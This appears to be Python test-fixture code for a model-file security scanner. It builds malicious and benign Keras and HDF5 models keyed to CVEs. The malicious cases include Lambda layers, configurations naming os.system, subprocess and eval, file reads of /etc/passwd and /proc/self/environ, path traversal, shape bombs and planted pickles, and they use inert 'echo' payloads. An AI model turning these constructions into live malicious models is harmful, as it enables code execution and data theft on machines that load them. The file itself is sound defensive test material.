"""Keras: what `.keras` archives and HDF5 models can name, run, read and allocate."""

from __future__ import annotations

import base64
import json

from .assembler import inert_pickle
from .case import Content, Shelf
from .confusion import elf
from .keras_format import (
    CODE, DENSE, EMPTY, archive, deflated, functional, h5py, lambda3, lambda_layer, layer, model_h5, sequential, weights_h5,
)
from .tarwriter import entry, tar_bytes
from .repository_cases import LETTERS, drawn
from .torch_format import payload_pickle, torch_zip
from .assembler import Asm, inert_call
from .zipwriter import Member, zip_bytes

GET_FILE = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}


def named(module: str, name: str, kind: str = "function") -> dict:
    return {"module": module, "class_name": kind, "config": name, "registered_name": kind}


def archives() -> Shelf:
    shelf = Shelf("keras", source="construction, after keras's deserialization")

    def add(id: str, config: dict | str | bytes, why: str, expect: str = "deny", source: str | None = None, **how: object) -> None:
        shelf.bad(id, archive(config, **how), why, name="model.keras", expect=expect, source=source)

    # CVE-2024-3660, CVE-2025-9906: code in a Lambda, wherever a configuration holds layers.
    hidden = lambda3()
    places = {
        "sequential": sequential(DENSE, hidden), "functional": functional(DENSE, hidden), "model-in-model": sequential(sequential(hidden)), "three-models": sequential(functional(sequential(hidden))),
        "time-distributed": sequential(layer("TimeDistributed", {"layer": hidden})), "bidirectional": sequential(layer("Bidirectional", {"layer": DENSE, "backward_layer": hidden})),
        "rnn-cells": sequential(layer("StackedRNNCells", {"cells": [DENSE, [hidden]]})), "nested-lists": sequential(layer("Dense", {"units": [[[[hidden]]]]})),
        "in-dict": sequential(layer("Dense", {"a": {"b": {"c": hidden}}})), "compile-loss": sequential(DENSE, compile_config={"optimizer": "adam", "loss": hidden}),
        "compile-metric": sequential(DENSE, compile_config={"optimizer": "adam", "metrics": [[hidden]]}), "build-config": sequential(dict(DENSE, build_config={"x": hidden})),
        "custom-wrapper": sequential(layer("SpectralNormalization", {"layer": hidden})), "activation": sequential(dict(DENSE, config=dict(DENSE["config"], activation=hidden["config"]["function"]))),
        "initializer": sequential(dict(DENSE, config=dict(DENSE["config"], kernel_initializer=hidden["config"]["function"]))),
        "inbound-kwargs": {**functional(DENSE), "extra": {"inbound_nodes": [{"args": [], "kwargs": {"f": hidden["config"]["function"]}}]}},
        "preprocessing": sequential(layer("Pipeline", {"layers": [hidden]})), "root": hidden,
    }
    for id, config in places.items():
        add(f"lambda-{id}", config, f"a Lambda's code: {id.replace('-', ' ')}", source="cve-2024-3660, cve-2025-9906")
    add("lambda-keras-2", sequential(lambda_layer()), "a Lambda as Keras 2 wrote it", source="cve-2024-3660")
    add("lambda-keras-2-encoded", sequential(lambda_layer(encoded=True)), "a Lambda as Keras 2 wrote it, its tuple encoded", source="cve-2024-3660")
    add("lambda-function-name", sequential(layer("Lambda", {"function": named("os", "system")})), "a Lambda that names os.system", source="cve-2025-1550")
    add("lambda-output-shape", sequential(layer("Lambda", {"function": named("keras.ops", "abs"), "output_shape": hidden["config"]["function"]})), "code for a Lambda's output shape", source="cve-2024-3660")
    add("lambda-mask", sequential(layer("Lambda", {"function": named("keras.ops", "abs"), "mask": hidden["config"]["function"]})), "code for a Lambda's mask", source="cve-2024-3660")
    add("lambda-registered", sequential({"module": None, "class_name": "Lambda", "config": hidden["config"], "registered_name": "Lambda"}), "a Lambda without a module", source="cve-2024-3660")
    add("lambda-escaped", json.dumps(sequential(hidden)).replace("__lambda__", "\\u005f_lambda__").replace("Lambda", "L\\u0061mbda"), "a Lambda spelled with escapes", source="cve-2024-3660")
    add("lambda-duplicate", '{"class_name":"Sequential","config":{"layers":[]},"config":' + json.dumps(sequential(hidden)["config"]) + "}", "the second configuration counts")
    add("lambda-bom", b"\xef\xbb\xbf" + json.dumps(sequential(hidden)).encode(), "a byte-order mark before the configuration")
    add("lambda-utf16", json.dumps(sequential(hidden)).encode("utf-16"), "a configuration in UTF-16, as json.loads takes it", "not-allow")
    add("lambda-unsafe-call", sequential(layer("Lambda", {"function": named("keras.config", "enable_unsafe_deserialization")}), hidden), "safe mode is switched off by the model", source="cve-2025-9906")
    add("enable-unsafe", sequential(layer("Lambda", {"function": named("keras.src.config", "enable_unsafe_deserialization")})), "safe mode is switched off by the model", source="cve-2025-9906")
    shelf.bad("lambda-deflated", deflated(sequential(hidden)), "a Lambda in a compressed archive", name="model.keras", source="cve-2024-3660")
    shelf.bad("lambda-named-zip", archive(sequential(hidden)), "a `.keras` file called .zip", name="model.zip", source="cve-2024-3660")
    shelf.bad("lambda-named-bin", archive(sequential(hidden)), "a `.keras` file called .bin", name="weights.bin", source="cve-2024-3660")
    shelf.bad("lambda-folder", {"config.json": json.dumps(sequential(hidden)).encode(), "metadata.json": b'{"keras_version": "3.9.0"}', "model.weights.h5": EMPTY}, "an unpacked `.keras` file", name="model",
              source="cve-2024-3660")
    shelf.bad("lambda-config-only", json.dumps(sequential(hidden)).encode(), "a model's architecture as JSON", name="architecture.json", source="cve-2024-3660")
    shelf.bad("lambda-keras2-json", json.dumps({"class_name": "Sequential", "config": {"layers": [lambda_layer()]}, "keras_version": "2.15.0", "backend": "tensorflow"}).encode(), "to_json of Keras 2", name="model.json",
              source="cve-2024-3660")
    # CVE-2025-1550, CVE-2025-8747: any module, any function.
    for module, name in (("os", "system"), ("subprocess", "run"), ("builtins", "eval"), ("builtins", "exec"), ("importlib", "import_module"), ("keras.src.utils.file_utils", "os.system"), ("posix", "system"),
                         ("shutil", "rmtree"), ("pickle", "loads"), ("marshal", "loads"), ("ctypes", "CDLL"), ("webbrowser", "open"), ("numpy", "load"), ("runpy", "run_path"), ("pty", "spawn"), ("torch", "load"),
                         ("joblib", "load"), ("urllib.request", "urlretrieve"), ("code", "interact"), ("timeit", "timeit")):
        add(f"module-{module.replace('.', '-')}-{name.replace('.', '-')}", sequential(layer("Dense", {"activation": named(module, name)})), f"a function of {module}", source="cve-2025-1550")
    add("module-class", sequential({"module": "subprocess", "class_name": "Popen", "config": {"args": "echo waag-inert", "shell": True}, "registered_name": None}), "a class of subprocess as a layer", source="cve-2025-1550")
    add("module-custom", sequential({"module": "evil_package.layers", "class_name": "Backdoor", "config": {}, "registered_name": "evil>Backdoor"}), "a class of an unknown package", "not-allow", source="cve-2025-1550")
    add("module-main", sequential({"module": "__main__", "class_name": "MyLayer", "config": {}, "registered_name": "MyLayer"}), "a class of the saving script", "not-allow")
    for name in ("get_file", "keras.utils.get_file", "get_source_inputs"):
        if "source" not in name:
            add(f"get-file-{name.count('.')}", sequential(layer("Lambda", {"function": dict(GET_FILE, config=name), "arguments": {"origin": "http://example.invalid/x", "extract": True}})), "downloads and unpacks",
                source="cve-2025-8747, cve-2025-12060")
    add("get-file-src", sequential(layer("Lambda", {"function": named("keras.src.utils.file_utils", "get_file"), "arguments": {"origin": "file:///etc/passwd"}})), "copies a file", source="cve-2025-8747")
    add("extract-archive", sequential(layer("Lambda", {"function": named("keras.src.utils.file_utils", "extract_archive"), "arguments": {"file_path": "x.tar"}})), "unpacks an archive", source="cve-2025-12060")
    add("load-model", sequential(layer("Lambda", {"function": named("keras.models", "load_model"), "arguments": {"filepath": "evil.keras", "safe_mode": False}})), "loads another model without safe mode", source="cve-2025-8747")
    add("saving-api", sequential(layer("Lambda", {"function": named("keras.saving", "load_weights")})), "a saving function as a layer", "not-allow", source="cve-2025-8747")
    for module, name in (("tensorflow", "py_function"), ("tensorflow.io", "write_file"), ("tensorflow.io.gfile", "copy"), ("jax", "pure_callback")):
        add(f"lambda-{module.replace('.', '-')}-{name.replace('_', '-')}", sequential(layer("Lambda", {"function": named(module, name)})), f"a Lambda that is {module}.{name}", source="cve-2025-1550")
    add("tokenizer-proto", sequential({"module": "keras_nlp.tokenizers", "class_name": "SentencePieceTokenizer", "config": {"proto": "/etc/passwd"}, "registered_name": "keras_nlp>SentencePieceTokenizer"}), "a tokenizer that reads a file", source="cve-2025-12058")
    # CVE-2025-12058: a vocabulary that is a path or an address.
    for cls in ("StringLookup", "IntegerLookup", "TextVectorization", "IndexLookup"):
        add(f"vocabulary-file-{cls.lower()}", sequential(layer(cls, {"vocabulary": "/etc/passwd", "invert": False})), f"{cls} reads a file", source="cve-2025-12058")
    add("vocabulary-url", sequential(layer("StringLookup", {"vocabulary": "https://example.invalid/vocab.txt"})), "StringLookup fetches an address", source="cve-2025-12058")
    add("vocabulary-s3", sequential(layer("StringLookup", {"vocabulary": "s3://example-invalid/vocab.txt"})), "StringLookup fetches from a bucket", source="cve-2025-12058")
    add("vocabulary-parent", sequential(layer("StringLookup", {"vocabulary": "../../../../etc/hosts"})), "StringLookup reads a file above", source="cve-2025-12058")
    # CVE-2025-49655: a pickle in TorchModuleWrapper.
    module = base64.b64encode(torch_zip(payload_pickle(inert_call(Asm(2))), {})).decode()
    for id, value in (("string", module), ("dict", {"class_name": "__bytes__", "config": {"value": module}})):
        add(f"torch-module-{id}", sequential(layer("TorchModuleWrapper", {"module": value})), "a pickle in a layer that wraps a torch module", source="cve-2025-49655")
    add("torch-module-src", sequential(layer("TorchModuleWrapper", {"module": module}, module="keras.src.utils.torch_utils")), "the same by its inner path", source="cve-2025-49655")
    add("flax-layer", sequential(layer("FlaxLayer", {"module": named("os", "system")}, module="keras.src.utils.jax_layer")), "a layer around a JAX function", source="cve-2025-1550")
    add("jax-layer", sequential(layer("JaxLayer", {"call_fn": named("os", "system")}, module="keras.src.utils.jax_layer")), "a layer around a JAX function", source="cve-2025-1550")
    add("tfsm-layer", sequential(layer("TFSMLayer", {"filepath": "/tmp/evil_saved_model", "call_endpoint": "serve"})), "a layer that loads a SavedModel of its choice", source="cve-2026-1462 and the like")
    add("custom-object-scope", sequential({"module": "builtins", "class_name": "__typespec__", "config": None, "spec_name": "os.system", "registered_name": None}), "a type that is a module's function", "not-allow")
    add("typespec", sequential(layer("Dense", {"x": {"class_name": "__typespec__", "spec_name": "../../os", "config": {}, "module": "os"}})), "a type specification of module os", "not-allow")
    add("numpy-object", sequential(layer("Dense", {"units": {"class_name": "__numpy__", "config": {"value": "x", "dtype": "object"}}})), "an array of objects", "not-allow")
    # CVE-2026-0897 and other bombs of sizes.
    add("shape-bomb", sequential(layer("Dense", {"units": 1 << 50})), "a layer of a quadrillion units", "not-allow", source="cve-2026-0897")
    # What else the archive may hold.
    more = {"npz-pickle": ("assets/data.npz", zip_bytes([Member("a.npy", b"\x93NUMPY\x01\0v\0" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n" + inert_pickle())])),
            "pickle": ("assets/tokenizer.pkl", inert_pickle()), "program": ("assets/tool", elf()), "traversal": ("../../waag-inert", b"x\n"), "absolute": ("/waag-inert", b"x\n"),
            "python": ("assets/hook.py", b"import os\nos.system('echo waag-inert')\n"), "tar-traversal": ("assets/x.tar", tar_bytes([entry("../../../waag-inert", b"x\n")]))}
    for id, (name, data) in more.items():
        add(f"member-{id}", sequential(DENSE), f"{name} in the archive", "not-allow" if id == "python" else "deny", more=[Member(name, data)],
            source="cve-2025-12060" if "tar" in id else None)
    add("second-config", sequential(DENSE), "a second config.json", more=[Member("config.json", json.dumps(sequential(hidden)).encode())])
    add("weights-pickle", sequential(DENSE), "a pickle in place of the weights", weights=inert_pickle())
    add("weights-user-block", sequential(DENSE), "a script before the weights", "not-allow", weights=b"#!/bin/sh\necho waag-inert\n".ljust(512, b"\0") + EMPTY)
    add("weights-tail", sequential(DENSE), "a pickle behind the weights", "not-allow", weights=EMPTY + inert_pickle())
    add("config-broken", json.dumps(sequential(hidden))[:-30], "a configuration that is cut off", "not-allow")
    add("config-deep", "[" * 5000 + "]" * 5000, "a configuration five thousand deep", "not-allow")
    shelf.bad("no-config", zip_bytes([Member("metadata.json", b'{"keras_version": "3.9.0"}'), Member("model.weights.h5", EMPTY)]), "no configuration", name="model.keras", expect="not-allow")
    return shelf


def hdf5() -> Shelf:
    shelf = Shelf("hdf5", source="construction, with h5py")
    module = h5py()
    if module is None:
        shelf.skip("h5py is missing: HDF5 models were left out")
        return shelf
    import numpy as np

    def add(id: str, data: bytes | Content, why: str, expect: str = "deny", name: str = "model.h5", source: str | None = None) -> None:
        shelf.bad(id, data, why, name="model" if isinstance(data, dict) else name, expect=expect, source=source)

    evil, plain = {"class_name": "Sequential", "config": {"layers": [lambda_layer()]}}, {"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {"name": "dense", "units": 2}}]}}
    for id, how in (("plain", {}), ("latest", {"libver": "latest"}), ("user-block", {"user_block": 512}), ("v108", {"libver": ("v108", "v108")})):
        add(f"lambda-{id}", model_h5(evil, **how), f"a Lambda in an HDF5 model, {id}", source="cve-2024-3660, cve-2025-9905")
    for name in ("model.hdf5", "model.keras", "model.bin", "weights.he5", "model"):
        add(f"lambda-named-{name.replace('.', '-')}", model_h5(evil), f"a Lambda in an HDF5 model called {name}", name=name, source="cve-2025-9905")
    add("lambda-keras-3", model_h5(sequential(lambda3())), "a Lambda of Keras 3 in HDF5, where safe mode does not count", source="cve-2025-9905")
    add("lambda-nested", model_h5({"class_name": "Model", "config": {"layers": [{"class_name": "Sequential", "config": {"layers": [{"class_name": "TimeDistributed", "config": {"layer": lambda_layer()}}]}}]}}),
        "a Lambda in a wrapper in a model in a model", source="cve-2024-3660")
    add("lambda-training-config", model_h5(plain, {"training_config": json.dumps({"loss": lambda_layer(), "optimizer_config": {}})}), "a Lambda as the loss", source="cve-2024-3660")
    older = {"class_name": "Lambda", "config": {"name": "lambda", "function": [CODE, None, None], "function_type": "lambda", "arguments": {}}}
    add("lambda-oldest", model_h5({"class_name": "Sequential", "config": [older]}), "a Lambda as the first Keras wrote it", source="cve-2024-3660")
    for id, how in (("encoded", {}), ("encoded-latest", {"libver": "latest"})):
        add(f"lambda-{id}", model_h5({"class_name": "Sequential", "config": {"layers": [lambda_layer(encoded=True)]}}, **how), "a Lambda whose code is in an encoded tuple", source="cve-2024-3660")
    add("lambda-bytes", model_h5(None, {"model_config": np.bytes_(json.dumps(evil).encode())}), "the configuration as bytes", source="cve-2024-3660")
    add("lambda-array", model_h5(None, {"model_config": np.array([json.dumps(evil)], dtype=object)}), "the configuration as an array of one", "not-allow", source="cve-2024-3660")
    long = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {"name": f"d{i}", "units": 4}} for i in range(2000)] + [lambda_layer()]}}
    add("lambda-long-dense", model_h5(json.dumps(long), libver="latest"), "a Lambda at the end of a long configuration, kept in a heap", source="cve-2024-3660")
    add("custom-class", model_h5({"class_name": "Sequential", "config": {"layers": [{"class_name": "EvilLayer", "config": {}}]}}), "a custom class", "not-allow")
    add("module-os", model_h5(sequential(layer("Dense", {"activation": named("os", "system")}))), "a function of os", source="cve-2025-1550")
    add("vocabulary-file", model_h5(sequential(layer("StringLookup", {"vocabulary": "/etc/passwd"}))), "StringLookup reads a file", source="cve-2025-12058")
    add("config-in-dataset", model_h5(None, fill=lambda f: f.create_dataset("model_config", data=json.dumps(evil))), "a configuration as a data set", "not-allow")

    def storage(path: str, where: str = "model_weights/evil"):
        return lambda f: f.create_dataset(where, shape=(16,), dtype="u1", external=[(path, 0, 16)])

    for id, path in (("passwd", "/etc/passwd"), ("parent", "../../../etc/hosts"), ("beside", "other.bin"), ("proc", "/proc/self/environ")):
        add(f"external-storage-{id}", model_h5(plain, fill=storage(path)), f"data kept in {path}", source="cve-2026-1669")
    add("external-storage-latest", model_h5(plain, fill=storage("/etc/passwd"), libver="latest"), "data kept in /etc/passwd, newest layout", source="cve-2026-1669")
    add("external-storage-weights", weights_h5(storage("/etc/passwd", "layers/dense/vars/2")), "weights kept in /etc/passwd", name="model.weights.h5", source="cve-2026-1669")
    shelf.bad("external-storage-keras", archive(sequential(DENSE), weights_h5(storage("/etc/passwd", "layers/dense/vars/2"))), "weights in a `.keras` file, kept in /etc/passwd", name="model.keras", source="cve-2026-1669")
    add("external-link", model_h5(plain, fill=lambda f: f.__setitem__("model_weights/link", module.ExternalLink("/etc/other.h5", "/secret"))), "a link into another file", source="cve-2026-1669")
    add("external-link-parent", model_h5(plain, fill=lambda f: f.__setitem__("model_weights/link", module.ExternalLink("../other.h5", "/secret")), libver="latest"), "a link into a file above", source="cve-2026-1669")
    add("external-link-keras", {"model.keras": archive(sequential(DENSE), weights_h5(lambda f: f.__setitem__("layers/x", module.ExternalLink("/etc/other.h5", "/"))))}, "a link out of a `.keras` file's weights", source="cve-2026-1669")
    add("soft-link-loop", model_h5(plain, fill=lambda f: f.__setitem__("model_weights/self", module.SoftLink("/model_weights/self"))), "a link to itself", "not-allow")

    def virtual(path: str):
        def fill(f):
            layout = module.VirtualLayout(shape=(4,), dtype="f4")
            layout[:] = module.VirtualSource(path, "secret", shape=(4,))
            f.create_virtual_dataset("model_weights/virtual", layout)
        return fill

    add("virtual-absolute", model_h5(plain, fill=virtual("/etc/other.h5"), libver="latest"), "a virtual data set over another file", source="cve-2026-1669")
    add("virtual-parent", model_h5(plain, fill=virtual("../other.h5"), libver="latest"), "a virtual data set over a file above", source="cve-2026-1669")

    def bomb(**how: object):
        return lambda f: f.create_dataset("model_weights/bomb", shape=(1 << 40,), dtype="f4", **how)

    add("shape-bomb-chunked", model_h5(plain, fill=bomb(chunks=(1 << 20,))), "four terabytes that the file does not hold", "not-allow", source="cve-2026-0897")
    add("shape-bomb-compressed", model_h5(plain, fill=bomb(chunks=(1 << 20,), compression="gzip", fillvalue=1.0)), "four terabytes of a fill value", "not-allow", source="cve-2026-0897")
    shelf.bad("shape-bomb-keras", archive(sequential(DENSE), weights_h5(lambda f: f.create_dataset("layers/dense/vars/2", shape=(1 << 40,), dtype="f4", chunks=(1 << 20,)))), "a shape bomb in a `.keras` file",
              name="model.keras", expect="not-allow", source="cve-2026-0897")
    def growing(last: bytes, count: int):
        data = np.zeros((count, 512), dtype="u1")
        data[-1, : len(last)] = np.frombuffer(last, dtype="u1")
        return lambda f: f.create_dataset("model_weights/p", data=data, chunks=(1, 512), maxshape=(None, 512))

    payload = inert_pickle()
    add("opaque-pickle", model_h5(plain, {"blob": np.void(payload)}), "a pickle in an attribute", "not-allow")
    add("dataset-pickle", model_h5(plain, fill=lambda f: f.create_dataset("model_weights/p", data=np.frombuffer(payload, dtype="u1"))), "a pickle as a data set of bytes", "not-allow")
    add("dataset-elf", model_h5(plain, fill=lambda f: f.create_dataset("model_weights/p", data=np.frombuffer(elf(), dtype="u1"))), "a program as a data set of bytes", "not-allow")
    add("user-block-script", b"#!/bin/sh\necho waag-inert\nexit 0\n".ljust(512, b"\0") + model_h5(plain, user_block=512)[512:], "a script in the user block", "not-allow")
    add("user-block-pickle", payload.ljust(512, b"\0") + model_h5(plain, user_block=512)[512:], "a pickle in the user block")
    add("user-block-elf", elf().ljust(512, b"\0") + model_h5(plain, user_block=512)[512:], "a program in the user block")
    add("tail-pickle", model_h5(plain) + payload, "a pickle behind the model", "not-allow")
    for count in (2, 3, 30, 300, 3000):
        add(f"growing-pickle-{count}", model_h5(plain, libver="latest", fill=growing(payload, count)), f"a pickle in chunk {count} of bytes that may grow", "not-allow")
    add("tail-zip", model_h5(plain) + archive(sequential(lambda3())), "a `.keras` file behind an HDF5 model", "not-allow")
    add("truncated", model_h5(plain)[:-700], "the end is missing", "not-allow")
    add("end-beyond", model_h5(plain)[:40] + b"\xff\xff\xff\xff\xff\0\0\0" + model_h5(plain)[48:], "the end of file lies far away", "not-allow")
    broken = bytearray(model_h5(plain))
    at = broken.index(b"TREE")
    broken[at + 4 : at + 8] = b"\xff\xff\xff\xff"
    add("tree-broken", bytes(broken), "a tree that says it is very deep", "not-allow")
    add("pandas-pickle", model_h5(None, {"CLASS": np.bytes_(b"GROUP"), "TITLE": np.bytes_(b""), "pandas_type": np.bytes_(b"frame"), "blob": np.bytes_(payload.replace(b"\0", b"\0"))}), "PyTables: a pickle in an attribute", "not-allow")
    add("secret-attribute", model_h5(plain, {"aws": "hf_" + drawn(34, LETTERS)}), "a credential in an attribute", "not-allow")
    return shelf


def good() -> Shelf:
    shelf = Shelf("good-keras", source="construction, after keras's serialization")

    def add(id: str, config: dict | bytes, why: str, name: str = "model.keras", **how: object) -> None:
        shelf.good(id, config if isinstance(config, bytes) else archive(config, **how), why, name=name)

    add("sequential", sequential(DENSE), "a dense layer")
    add("functional", functional(DENSE), "a functional model")
    add("deflated", deflated(sequential(DENSE)), "a compressed archive")
    add("nested", sequential(sequential(DENSE)), "a model in a model")
    add("name-lambda", sequential(dict(DENSE, config=dict(DENSE["config"], name="lambda"))), "a layer whose name is lambda")
    add("name-eval", sequential(dict(DENSE, config=dict(DENSE["config"], name="eval_exec_os.system"))), "a layer whose name frightens scanners")
    add("words-vocabulary", sequential(layer("StringLookup", {"vocabulary": ["eval", "exec", "__import__", "os.system", "/etc/passwd", "http://example.com"], "invert": False})), "a vocabulary given in place")
    add("text-vectorization", sequential(layer("TextVectorization", {"max_tokens": 100, "standardize": "lower_and_strip_punctuation", "vocabulary": None})), "a text layer without a vocabulary")
    add("wrappers", sequential(layer("TimeDistributed", {"layer": DENSE}), layer("Bidirectional", {"layer": layer("LSTM", {"units": 4})})), "wrappers around layers")
    add("conv", sequential(layer("Conv2D", {"filters": 8, "kernel_size": [3, 3]}), layer("BatchNormalization"), layer("Activation", {"activation": "relu"}), layer("Flatten"), layer("Dropout", {"rate": 0.5})), "a small network")
    add("compiled", sequential(DENSE, compile_config={"optimizer": {"module": "keras.optimizers", "class_name": "Adam", "config": {"learning_rate": 0.001}, "registered_name": None},
        "loss": "sparse_categorical_crossentropy", "metrics": ["accuracy"]}), "a compiled model")
    add("loss-class", sequential(DENSE, compile_config={"loss": {"module": "keras.losses", "class_name": "MeanSquaredError", "config": {"reduction": "sum_over_batch_size"}, "registered_name": None}}), "a loss as an object")
    add("rescaling", sequential(layer("Rescaling", {"scale": 0.00392, "offset": 0.0}), layer("RandomFlip", {"mode": "horizontal"})), "layers for pictures")
    add("initializers", sequential(dict(DENSE, config=dict(DENSE["config"], bias_initializer={"module": "keras.initializers", "class_name": "Zeros", "config": {}, "registered_name": None},
        kernel_regularizer={"module": "keras.regularizers", "class_name": "L2", "config": {"l2": 0.01}, "registered_name": None}))), "initializers and a regularizer")
    add("dtype-policy", sequential(dict(DENSE, config=dict(DENSE["config"], dtype={"module": "keras", "class_name": "DTypePolicy", "config": {"name": "mixed_float16"}, "registered_name": None}))), "a policy for types")
    add("builtin-function", sequential(layer("Activation", {"activation": {"module": "builtins", "class_name": "function", "config": "gelu", "registered_name": "function"}})), "an activation by name")
    add("asset", sequential(DENSE), "a vocabulary among the assets", more=[Member("assets/layers/string_lookup/vocabulary.txt", b"eval\nexec\nos.system\n")])
    add("keras-2-json", json.dumps({"class_name": "Sequential", "config": {"name": "lambda", "layers": [{"class_name": "Dense", "config": {"units": 1}}]}, "keras_version": "2.15.0"}).encode(), "to_json of Keras 2", name="model.json")
    module = h5py()
    if module is None:
        shelf.skip("h5py is missing: HDF5 models were left out")
        return shelf
    import numpy as np

    plain = {"class_name": "Sequential", "config": {"name": "sequential", "layers": [{"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "linear"}}]}}
    for id, how in (("h5", {}), ("h5-latest", {"libver": "latest"}), ("h5-v108", {"libver": ("earliest", "v108")})):
        add(id, model_h5(plain, **how), "an HDF5 model", name="model.h5")
    add("h5-name-lambda", model_h5({"class_name": "Sequential", "config": {"name": "Lambda", "layers": [{"class_name": "Dense", "config": {"name": "lambda_1", "units": 2}}]}}), "a layer whose name is lambda", name="model.h5")
    add("h5-training", model_h5(plain, {"training_config": json.dumps({"loss": "mse", "metrics": ["mae"], "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}}})}), "a compiled HDF5 model", name="model.h5")
    add("h5-compressed", model_h5(plain, fill=lambda f: f.create_dataset("x", data=np.arange(10_000, dtype="f4"), compression="gzip", shuffle=True, fletcher32=True)), "compressed data with a checksum", name="data.h5")
    add("h5-lzf", model_h5(plain, fill=lambda f: f.create_dataset("x", data=np.arange(10_000, dtype="f4"), compression="lzf")), "data compressed with LZF", name="data.h5")
    add("h5-chunked-growing", model_h5(plain, fill=lambda f: f.create_dataset("x", data=np.arange(100, dtype="f4"), chunks=(10,), maxshape=(None,))), "data that may grow", name="data.h5")
    for how in ({}, {"compression": "gzip"}):
        add(f"h5-growing-latest{'-compressed' if how else ''}", model_h5(plain, libver="latest", fill=lambda f: f.create_dataset("x", data=np.zeros(3000, dtype="u1"), chunks=(1,), maxshape=(None,), **how)), "bytes that may grow, newest layout", name="data.h5")
    add("h5-many-groups", model_h5(plain, fill=lambda f: [f.create_dataset(f"g{i}/w", data=np.ones(3, dtype="f4") * i) for i in range(200)]), "two hundred groups", name="data.h5")
    add("h5-many-latest", model_h5(plain, libver="latest", fill=lambda f: [f.create_dataset(f"g{i}/w", data=np.ones(3, dtype="f4") * i) for i in range(200)]), "two hundred groups, newest layout", name="data.h5")
    add("h5-soft-link", model_h5(plain, fill=lambda f: f.__setitem__("alias", module.SoftLink("/model_weights/dense"))), "a link inside the file", name="data.h5")
    add("h5-hard-link", model_h5(plain, fill=lambda f: f.__setitem__("alias", f["model_weights/dense"])), "two names of one group", name="data.h5")
    add("h5-strings", model_h5(plain, fill=lambda f: f.create_dataset("words", data=["eval", "os.system", "exec"], dtype=module.string_dtype())), "strings that frighten scanners", name="data.h5")
    add("h5-compound", model_h5(plain, fill=lambda f: f.create_dataset("rows", data=np.array([(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")]))), "a compound type", name="data.h5")
    add("h5-empty-and-scalar", model_h5(plain, fill=lambda f: (f.create_dataset("none", data=module.Empty("f4")), f.create_dataset("one", data=3.5), f.create_dataset("zero", shape=(0, 4), dtype="f4"))), "no data, a scalar and no rows", name="data.h5")
    add("h5-references", model_h5(plain, fill=lambda f: f.create_dataset("refs", data=[f["model_weights"].ref], dtype=module.ref_dtype)), "references between objects", name="data.h5")
    add("h5-weights", weights_h5(), "weights of Keras 3", name="model.weights.h5")
    add("keras-with-weights", sequential(DENSE), "a `.keras` file with real weights", weights=weights_h5())
    add("keras-weights-latest", sequential(DENSE), "a `.keras` file with weights in the newest layout", weights=weights_h5(libver="latest"))
    add("h5-attributes-dense", model_h5(plain, {f"note{i}": f"value {i}" for i in range(40)}, libver="latest"), "forty attributes, kept in a heap", name="data.h5")
    return shelf
